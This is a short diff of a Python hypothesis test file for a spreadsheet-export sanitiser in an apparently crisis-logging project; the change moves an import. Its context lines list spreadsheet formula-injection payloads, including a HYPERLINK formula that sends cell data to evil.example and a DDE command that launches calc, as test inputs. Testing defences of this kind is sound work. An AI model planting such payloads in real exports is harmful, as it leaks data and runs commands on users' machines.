@@ -12,7 +12,8 @@ from hypothesis import strategies as st
 from crisisconsole.interchange.cell_safety import FORMULA_STARTS, neutral_text, safe_cell
 from crisisconsole.interchange.log_export import to_csv
 from crisisconsole.services.intake.table import import_table
-from crisisconsole.services.log.entries import Attachment, add_entry, correct_entry
+from crisisconsole.services.log.attachments import Attachment
+from crisisconsole.services.log.entries import add_entry, correct_entry
 from crisisconsole.services.log.export_data import gather_log
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0",
